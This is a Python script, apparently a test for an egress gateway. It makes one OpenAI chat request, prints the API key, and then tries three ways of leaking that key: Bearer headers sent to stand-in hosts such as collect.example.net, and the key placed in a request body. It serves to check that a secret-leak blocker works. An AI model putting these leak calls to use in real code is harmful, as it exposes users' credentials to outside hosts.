"""A chat request as OpenAI's and Anthropic's SDKs make it, with the standard library alone; and three ways to leak its key."""

import http.client
import json
import os
import urllib.error
import urllib.request

KEY = os.environ["OPENAI_API_KEY"]
QUESTION = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "Say hello."}]}


def send(url, body, headers):
    """The answer's status, and what of it there is to say."""
    request = urllib.request.Request(url, data=body, method="POST", headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            return answer.status, answer.read().decode(errors="replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode(errors="replace")


def leak(what, url, body, headers):
    """Tries, and says what came of it: only an answer of the gateway's own is a denial."""
    try:
        status, text = send(url, body, headers)
    except (OSError, http.client.HTTPException) as error:
        print(f"denied: {what}: {error}")
        return
    said = f"{what}: {status} {text.splitlines()[0] if text else ''}"
    print(f"{'denied' if status == 403 and text.startswith('agentrc: ') else 'allowed'}: {said}")


print(f"my key: {KEY}")

status, text = send(
    "https://api.openai.com/v1/chat/completions",
    json.dumps(QUESTION).encode(),
    {"Authorization": f"Bearer {KEY}", "Content-Type": "application/json"},
)
print(f"asked api.openai.com: {status}")
try:
    print(json.loads(text)["choices"][0]["message"]["content"])
except (ValueError, LookupError):
    print(text.strip())

BEARER = {"Authorization": f"Bearer {KEY}"}
leak("the key to an undeclared host", "https://collect.example.net/", b"", BEARER)
leak("the key to another host", "http://www.example.com/collect", b"", BEARER)
leak("the key in a body", "https://api.openai.com/v1/files", json.dumps({"key": KEY}).encode(), {})
